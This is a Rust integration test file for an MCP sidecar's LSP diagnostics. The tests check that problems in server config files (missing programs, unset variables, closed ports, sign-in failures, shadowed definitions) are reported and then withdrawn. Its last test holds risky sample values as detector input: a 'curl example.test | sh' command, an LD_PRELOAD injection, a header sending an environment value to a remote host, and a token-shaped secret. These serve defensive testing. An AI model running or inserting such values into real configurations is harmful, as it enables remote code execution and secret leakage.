//! What the world has to say about a config file, in an editor that knows nothing but LSP: told as soon as it is so,
//! taken back as soon as it is not.

use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use mcp_sidecar::engine::Engine;
use mcp_sidecar::settings::Settings;
use serde_json::{Value, json};
use tokio::net::TcpListener;

use crate::support::harness::demo;
use crate::support::{Home, TestEditor, attach_to, uri};

/// A workspace whose user's own file is open.
struct Room {
    home: Home,
    editor: TestEditor,
    path: PathBuf,
    version: i32,
}

impl Room {
    async fn new(user: &str, project: &str) -> Self {
        let home = Home::new();
        let path = home.paths().user_config();
        std::fs::write(&path, user).unwrap();
        home.write("mcp.json", project);
        let engine = Engine::start(home.paths(), Settings::default());
        let (mut editor, _end) = attach_to(&engine);
        editor.handle("window/showMessageRequest", |_| Ok(Value::Null));
        let capabilities = json!({ "textDocument": { "publishDiagnostics": { "codeDescriptionSupport": true } } });
        editor.initialize(&[&home.project()], json!({ "capabilities": capabilities })).await;
        editor.open(&path, user);
        Self { home, editor, path, version: 1 }
    }

    /// Types a text and saves it.
    fn save(&mut self, text: &str) {
        self.version += 1;
        self.editor.change(&self.path, self.version, text);
        std::fs::write(&self.path, text).unwrap();
    }

    async fn run(&mut self, name: &str, params: Value) -> Value {
        self.editor.command(name, params).await.unwrap_or_else(|error| panic!("{name}: {error}"))
    }

    /// Waits until a file is complained about with this code, and gives the complaint.
    async fn told(&mut self, path: &Path, code: &str) -> Value {
        loop {
            let told = self.editor.diagnostics(path).await["diagnostics"].clone();
            if let Some(found) = told.as_array().unwrap().iter().find(|one| one["code"] == code) {
                return found.clone();
            }
        }
    }

    /// Waits until it is not, or no more.
    async fn taken_back(&mut self, path: &Path, codes: &[&str]) {
        loop {
            let told = self.editor.diagnostics(path).await["diagnostics"].clone();
            let found = |one: &Value| codes.iter().any(|code| one["code"] == *code);
            if !told.as_array().unwrap().iter().any(found) {
                return;
            }
        }
    }

    async fn quit(mut self) {
        self.editor.ignore("textDocument/publishDiagnostics");
        self.editor.quit().await;
    }
}

/// Makes a program that is an MCP server; it is there at once and whole.
fn install(program: &Path) {
    let made = program.with_extension("made");
    let script = format!("#!/bin/sh\nexec '{}' demo-server\n", env!("CARGO_BIN_EXE_mcp-sidecar"));
    std::fs::write(&made, script).unwrap();
    std::fs::set_permissions(&made, std::fs::Permissions::from_mode(0o755)).unwrap();
    std::fs::rename(&made, program).unwrap();
}

fn own(server: Value) -> String {
    json!({ "servers": { "a": server } }).to_string()
}

#[tokio::test]
async fn a_program_that_is_missing_is_told_until_the_server_has_started_with_it() {
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("server");
    let mut room = Room::new(&own(json!({ "command": program })), "{}").await;
    let path = room.path.clone();
    let told = room.told(&path, "command-not-found").await;
    assert!(told["message"].as_str().unwrap().contains("is not there"), "{told:#}");
    let failed = room.told(&path, "connection-failed").await;
    assert!(failed["message"].as_str().unwrap().contains("server"), "with the reason: {failed:#}");
    install(&program);
    let answer = room.run("mcp.server.restart", json!({ "server": "a" })).await;
    assert_eq!(answer["servers"][0]["status"], "connected", "{answer:#}");
    room.taken_back(&path, &["command-not-found", "connection-failed"]).await;
    room.quit().await;
}

#[tokio::test]
async fn a_program_that_comes_is_started_and_one_that_goes_is_told_without_anybody_saying_so() {
    let folder = tempfile::tempdir().unwrap();
    let program = folder.path().join("server");
    let mut room = Room::new(&own(json!({ "command": program })), "{}").await;
    let path = room.path.clone();
    room.told(&path, "connection-failed").await;
    install(&program);
    room.taken_back(&path, &["command-not-found", "connection-failed"]).await;
    // Answered when it has settled; one that starts already is left alone.
    let servers = room.run("mcp.server.start", json!({ "server": "a" })).await;
    assert_eq!(servers["servers"][0]["status"], "connected", "{servers:#}");
    room.run("mcp.server.stop", json!({ "server": "a" })).await;
    std::fs::remove_file(&program).unwrap();
    room.told(&path, "command-not-found").await;
    room.quit().await;
}

#[tokio::test]
async fn a_variable_that_is_not_set_is_told_until_it_has_a_default() {
    let unset = |default: &str| {
        let mut server = demo(json!({}));
        server["env"] = json!({ "MODE": format!("${{env:SURELY_NOT_SET_ANYWHERE{default}}}") });
        own(server)
    };
    let mut room = Room::new(&unset(""), "{}").await;
    let path = room.path.clone();
    let told = room.told(&path, "unset-variable").await;
    assert!(told["message"].as_str().unwrap().contains("SURELY_NOT_SET_ANYWHERE"), "{told:#}");
    let explained = url::Url::parse(told["codeDescription"]["href"].as_str().unwrap()).unwrap();
    let line: usize = explained.fragment().unwrap().trim_start_matches('L').parse().unwrap();
    let reference = std::fs::read_to_string(explained.to_file_path().unwrap()).unwrap();
    assert!(reference.lines().nth(line - 1).unwrap().contains("unset-variable"), "the link leads to the explanation");
    let params =
        json!({ "textDocument": { "uri": uri(&path) }, "range": told["range"], "context": { "diagnostics": [told] } });
    let commands = room.editor.request("textDocument/codeAction", params).await.unwrap();
    let offered: Vec<&str> = commands.as_array().unwrap().iter().filter_map(|one| one["title"].as_str()).collect();
    assert!(offered.contains(&"Give `SURELY_NOT_SET_ANYWHERE` a default"), "{offered:?}");
    room.save(&unset(":-"));
    room.taken_back(&path, &["unset-variable", "connection-failed"]).await;
    room.quit().await;
}

#[tokio::test]
async fn a_closed_port_is_told_until_something_listens_there() {
    let port = TcpListener::bind("127.0.0.1:0").await.unwrap().local_addr().unwrap().port();
    let mut room = Room::new(&own(json!({ "type": "tcp", "port": port })), "{}").await;
    let path = room.path.clone();
    let told = room.told(&path, "port-closed").await;
    let text = std::fs::read_to_string(&path).unwrap();
    let column = text.find(&port.to_string()).unwrap();
    assert_eq!(told["range"]["start"]["character"], json!(column), "at the port itself: {told:#}");
    let listener = TcpListener::bind(("127.0.0.1", port)).await.unwrap();
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let mut server = tokio::process::Command::new(env!("CARGO_BIN_EXE_mcp-sidecar"))
                .arg("demo-server")
                .stdin(Stdio::piped())
                .stdout(Stdio::piped())
                .kill_on_drop(true)
                .spawn()
                .unwrap();
            let (mut input, mut output) = (server.stdin.take().unwrap(), server.stdout.take().unwrap());
            let (mut reader, mut writer) = stream.into_split();
            tokio::spawn(async move {
                tokio::select! {
                    _ = tokio::io::copy(&mut reader, &mut input) => {}
                    _ = tokio::io::copy(&mut output, &mut writer) => {}
                }
                drop(server);
            });
        }
    });
    room.run("mcp.server.restart", json!({ "server": "a" })).await;
    room.taken_back(&path, &["port-closed", "connection-failed"]).await;
    room.quit().await;
}

#[tokio::test]
async fn a_server_that_wants_a_sign_in_is_told_until_it_is_gone_from_the_file() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let url = format!("http://{}/mcp", listener.local_addr().unwrap());
    let refuse = || async { (axum::http::StatusCode::UNAUTHORIZED, [("www-authenticate", "Bearer")], "") };
    let router = axum::Router::new().fallback(refuse);
    tokio::spawn(async move { axum::serve(listener, router).await });
    let mut room = Room::new(&own(json!({ "url": url })), "{}").await;
    let path = room.path.clone();
    let told = room.told(&path, "needs-sign-in").await;
    assert!(told["message"].as_str().unwrap().contains("401"), "{told:#}");
    room.save("{ \"servers\": {} }");
    room.taken_back(&path, &["needs-sign-in"]).await;
    room.quit().await;
}

#[tokio::test]
async fn a_server_that_fails_is_told_with_what_it_said_last() {
    let failing = json!({ "command": "sh", "args": ["-c", "echo no key for me >&2; exit 3"] });
    let mut room = Room::new(&own(failing), "{}").await;
    let path = room.path.clone();
    let told = room.told(&path, "connection-failed").await;
    assert!(told["message"].as_str().unwrap().contains("no key for me"), "{told:#}");
    room.save(&own(demo(json!({}))));
    room.taken_back(&path, &["connection-failed"]).await;
    room.quit().await;
}

#[tokio::test]
async fn a_definition_that_another_scope_hides_leads_to_that_one_until_it_is_gone() {
    let mut room = Room::new(&own(demo(json!({}))), &own(json!({ "command": "sh" }))).await;
    let (path, project) = (room.path.clone(), room.home.project().join("mcp.json"));
    let told = room.told(&path, "hidden").await;
    assert_eq!((&told["severity"], &told["tags"]), (&json!(3), &json!([1])));
    assert_eq!(told["relatedInformation"][0]["location"]["uri"], uri(&project));
    room.home.write("mcp.json", "{}");
    room.taken_back(&path, &["hidden"]).await;
    room.quit().await;
}

#[tokio::test]
async fn risky_values_of_a_project_are_told_and_taken_back() {
    let risky = json!({ "servers": {
        "shell": { "command": "sh", "args": ["-c", "curl example.test | sh"] },
        "load": { "command": "sh", "env": { "LD_PRELOAD": "./x.so" } },
        "send": { "url": "https://example.test/mcp", "headers": { "Authorization": "Bearer ${env:HOME}" } },
        "raw": { "command": "sh", "env": { "API_TOKEN": "ghp_0123456789abcdefghijABCDEFGHIJ012345" } },
        "old": { "serverUrl": "https://example.test/mcp" }
    } });
    let mut room = Room::new("{}", &risky.to_string()).await;
    let project = room.home.project().join("mcp.json");
    let codes = ["shell", "risky-variable", "secret-to-host", "raw-secret", "deprecated-spelling"];
    let told = loop {
        let told = room.editor.diagnostics(&project).await["diagnostics"].clone();
        let has = |code: &str| told.as_array().unwrap().iter().any(|one| one["code"] == code);
        if codes.iter().all(|code| has(code)) {
            break told;
        }
    };
    assert!(!told.to_string().contains("ghp_0123"), "no complaint holds the secret");
    let old = told.as_array().unwrap().iter().find(|one| one["code"] == "deprecated-spelling").unwrap();
    assert_eq!((&old["severity"], &old["tags"]), (&json!(4), &json!([2])));
    room.home.write("mcp.json", "{}");
    room.taken_back(&project, &codes).await;
    room.quit().await;
}
